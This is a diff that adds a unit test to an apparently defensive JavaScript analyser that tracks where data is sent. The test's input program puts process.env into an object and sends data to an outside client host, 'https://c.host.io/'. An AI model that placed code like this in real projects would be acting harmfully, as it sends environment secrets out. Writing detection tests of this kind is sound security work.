@@ -108,6 +108,19 @@ describe('callSpecial()', () => {
     expect(factLines(facts)).toContain('spawn os.system a');
   });
 
+  it('looks once at each object that a client sends', () => {
+    const fields = (name: string): string =>
+      Array.from({ length: 100 }, (_, at) => `f${at}: ${name}`).join();
+    const objects = ['b', 'c', 'd', 'e'].map(
+      (name, at) => `const ${name} = { ${fields('abcd'[at]!)} };`,
+    );
+    const text = `import { Client } from 'some-client';\nconst a = { x: process.env };\n${objects.join('\n')}`;
+    const { facts } = interpretJavaScript(`${text}\nnew Client('https://c.host.io/').send(e);`);
+    expect(
+      facts.filter(({ action }) => action === 'send').map(({ content }) => content.labels),
+    ).toEqual([ENVIRONMENT]);
+  });
+
   it('returns the argument of functions that only wrap it', () => {
     for (const name of ['Promise.resolve', 'Promise.race', 'Array.from']) {
       expect(valueOf(`${name}('a')`).texts).toEqual(['a']);
